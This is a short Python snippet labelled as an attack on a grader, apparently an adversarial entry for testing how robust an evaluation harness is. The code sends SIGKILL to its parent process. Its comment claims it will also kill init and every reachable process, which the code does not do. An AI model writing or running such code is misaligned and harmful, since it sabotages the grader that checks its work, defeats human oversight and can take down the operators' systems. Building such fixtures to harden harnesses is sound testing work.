# Attack: kill the grader, init and every process in reach.
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
